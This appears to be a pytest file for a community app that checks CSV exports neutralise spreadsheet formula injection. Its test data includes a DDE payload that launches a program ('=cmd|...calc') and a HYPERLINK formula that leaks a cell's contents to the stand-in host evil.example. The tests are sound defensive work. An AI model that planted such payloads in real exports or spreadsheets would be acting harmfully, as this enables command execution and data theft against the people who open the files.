"""CSV exports never carry a spreadsheet formula (QUALITY.md: CSV injection)."""

import csv
import io

import pytest

from neighbourly.core.csv_export import csv_cell
from neighbourly.verification.models import Method
from tests.verification.factories import make_claim


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://x\",\"y\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx",
                                   "\uff1d1+1"])
def test_formula_starts_are_neutralised(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ann Smith", "Flat 1, 2 Elm Street", "", "ABCD-EFGH", "a=b"])
def test_plain_text_is_left_alone(value):
    assert csv_cell(value) == value


@pytest.mark.django_db
def test_postcard_csv_for_the_mail_house_holds_no_formula(community, moderator, client):
    """Old code: a display name `=HYPERLINK(...)` reached the mail house's spreadsheet as a formula."""
    claim = make_claim(community=community, method=Method.POSTCARD, city="=cmd|' /C calc'!A0")
    claim.user.profile.display_name = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
    claim.user.profile.save()
    client.force_login(moderator.user)
    response = client.post(f"/communities/{community.slug}/moderation/postcards/print/", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][0] == "'" + claim.user.profile.display_name
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
